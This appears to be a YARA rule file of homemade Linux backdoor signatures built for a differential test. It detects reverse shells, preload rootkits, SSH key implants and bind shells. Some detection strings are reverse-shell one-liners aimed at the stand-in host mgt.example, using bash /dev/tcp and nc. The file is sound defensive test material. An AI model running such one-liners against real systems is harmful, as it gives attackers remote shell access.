/* Backdoor rules for the differential test: our own, shaped like the public
 * sets. */

rule Linux_Backdoor_Reverse_Shell_MGT : backdoor
{
    meta:
        description = "reverse shell one-liner"
        confidence = "high"
    strings:
        $r1 = "bash -i >& /dev/tcp/mgt.example/4444" fullword
        $r2 = "/bin/sh -i 2>&1|nc mgt.example" fullword
        $h1 = { 2f 64 65 76 2f 74 63 70 2f [4-24] 2f 34 34 34 34 20 30 3e 26 31 }
    condition:
        any of them
}

rule Linux_Backdoor_Rootkit_Preload_MGT : backdoor
{
    strings:
        $p1 = "/etc/ld.so.preload.mgt" fullword
        $p2 = "libmgtprocesshider.so" fullword
        $p3 = "mgt_hide_pid" wide ascii
        $h1 = { 48 89 e5 [2] 4d 47 54 [1-4] ( e8 | e9 ) ?? ?? ?? ?? }
        $h2 = { 6d 67 74 5f 72 6f 6f 74 6b 69 74 ?? ?? 00 }
    condition:
        2 of ($p*) or all of ($h*)
}

rule Linux_Backdoor_SSH_Key_MGT
{
    strings:
        $k1 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQmgt" fullword
        $k2 = "mgt@backdoor" fullword
        $k3 = "authorized_keys.mgt" xor(0x20-0x30)
    condition:
        ($k1 and $k2) or $k3
}

rule Linux_Backdoor_Bind_MGT
{
    strings:
        $b1 = { 6a 29 58 99 6a 02 5f 6a 01 5e 0f 05 [0-4] 4d 47 54 }
        $b2 = { 4d 47 54 42 49 4e 44 ?? ?? 11 5c }
        $b3 = "mgt-bindshell" nocase wide
    condition:
        for any of ($b*) : ( # >= 1 )
}

rule Linux_Backdoor_Header_MGT
{
    strings:
        $m = { 4d 47 54 48 44 52 }
    condition:
        $m and uint16(@m[1] + 6) == 0x0102 and uint8be(@m[1] + 8) < 0x80
}

rule Linux_Backdoor_Never_MGT
{
    strings:
        $n = "mgt-never-here" fullword
    condition:
        $n and filesize < 10MB
}

rule Linux_Backdoor_Combo_MGT
{
    condition:
        Linux_Backdoor_Reverse_Shell_MGT and not Linux_Backdoor_SSH_Key_MGT
}
